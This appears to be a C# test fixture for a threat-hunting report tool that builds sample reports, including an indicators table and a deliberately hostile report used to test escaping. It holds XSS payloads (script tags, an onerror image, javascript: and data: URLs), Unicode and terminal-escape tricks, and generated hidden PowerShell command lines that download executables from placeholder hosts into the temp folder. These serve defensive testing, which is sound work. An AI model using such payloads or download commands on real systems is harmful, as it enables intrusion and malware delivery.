using Quarry.Reports.Tests.Charts;
using Quarry.Tables;

namespace Quarry.Reports.Tests;

/// <summary>Reports that the tests write.</summary>
internal static class SampleReports
{
    public const string Script = "</script><img src=x onerror=\"document.title='hurt'\"><script>document.title='hurt'</script>";

    public static Report All() => new("Hunt of 4 March 2026",
    [
        new ReportSection("Which indicators are there?")
        {
            Explanation = "Addresses, names, URLs, hashes and mail addresses that are right, not merely shaped so.",
            Command = "quarry iocs samples/windows-process-events.csv --column CommandLine",
            Remarks = ["3,165 rows were read.", "2 rows were too long and cut at 1 MiB."],
            Charts = [SampleCharts.Bars()],
            Table = Indicators(),
            Headline = ["IoCType", "Observable", "SourceIndex", "Input"],
        },
        new ReportSection("Which hours are odd?") { Explanation = "The series less its trend and season.", Charts = [SampleCharts.Series()], Table = Numbers(240) },
        new ReportSection("Who logged on when?") { Charts = [SampleCharts.Timeline()] },
        new ReportSection("What started what?") { Charts = [SampleCharts.Tree()], Text = "explorer.exe (0x4a0)\n└─ OUTLOOK.EXE (0x4d4)\n   └─ WINWORD.EXE  http://cdn-assets.example.net/a\u001b[31m\n" },
    ])
    {
        Introduction = "What the samples hold.\n\nAll times are UTC.",
        Created = new DateTimeOffset(2026, 3, 5, 9, 30, 0, TimeSpan.FromHours(1)),
    };

    public static Report Hostile() => new(Script + "\u202E",
    [
        new ReportSection(Script)
        {
            Explanation = Script,
            Command = Script,
            Remarks = [Script],
            Text = Script,
            Table = new TableBuilder((Script, ColumnType.String), ("a.b[0]'\"\\", ColumnType.String), ("__proto__", ColumnType.String), ("n", ColumnType.Long))
                .AddRow(Script, "gpj\u202Eexe.bat \u001b[31m\0", "javascript:alert(1)", 2L)
                .AddRow("<!--<script>", "&lt;b&gt; \u2028\u2029", null, 10L)
                .AddRow("see https://evil.example.com/a?b=c and 203.0.113.58, again https://evil.example.com/a?b=c", "mail me@evil.example.com", "data:text/html,<script>", null)
                .Build(),
            Charts = [new Quarry.Charts.BarChart(Script, Script, Script, [new(Script, 3), new("https://evil.example.com/x", 1)])],
        },
    ]);

    public static Table Numbers(int rows)
    {
        var table = new TableBuilder(("Time", ColumnType.DateTime), ("Value", ColumnType.Real), ("Count", ColumnType.String), ("Host", ColumnType.String));
        for (int i = 0; i < rows; i++)
        {
            table.AddRow(SampleCharts.Start.AddMinutes(i * 7919 % 100_000), i % 11 == 0 ? null : i * 37 % 1000 / 8.0, $"{i * 101 % 5000}", $"host-{i % 97:00}");
        }

        return table.Build();
    }

    /// <summary>As large as a page takes: 50,000 rows of 20 columns.</summary>
    public static Table Large(int rows = 50_000)
    {
        var table = new TableBuilder([("Row", ColumnType.Long), ("Time", ColumnType.DateTime), .. Enumerable.Range(2, 18).Select(i => ($"Column{i}", ColumnType.String))]);
        object?[] cells = new object?[20];
        for (int row = 0; row < rows; row++)
        {
            cells[0] = (long)row;
            cells[1] = SampleCharts.Start.AddSeconds(row);
            for (int i = 2; i < 20; i++)
            {
                cells[i] = i % 3 == 0 ? $"value {row * i % 991}" : i % 3 == 1 ? $"C:\\Windows\\System32\\{row}\\{i}.exe" : row % 5 == 0 ? null : $"host{row % 40}.example.com";
            }

            table.AddRow(cells);
        }

        return table.Build();
    }

    private static Table Indicators()
    {
        var table = new TableBuilder(
            ("IoCType", ColumnType.String), ("Observable", ColumnType.String), ("SourceIndex", ColumnType.Long), ("Input", ColumnType.String),
            ("Column", ColumnType.String), ("Offset", ColumnType.Int), ("Original", ColumnType.String));
        (string Type, string Observable)[] rows =
        [
            ("url", "https://telemetry.example.org/api/v2/beacon?id=14"), ("ipv4", "203.0.113.58"), ("dns", "cdn-assets.example.net"), ("email", "soc@example.com"),
            ("md5_hash", "9e107d9d372bb6826bd81d3542a419d6"), ("url", "http://cdn-assets.example.net/a"), ("ipv4", "198.51.100.7"), ("ipv6", "2001:db8::1"),
        ];
        for (int i = 0; i < 64; i++)
        {
            (string type, string observable) = rows[i * 5 % rows.Length];
            table.AddRow(type, observable, (long)(i * 37), $"powershell -w hidden -c \"iwr {observable} -OutFile $env:TEMP\\a{i}.exe\"", "CommandLine", i * 3, i % 4 == 0 ? observable.Replace(".", "[.]", StringComparison.Ordinal) : null);
        }

        return table.Build();
    }
}
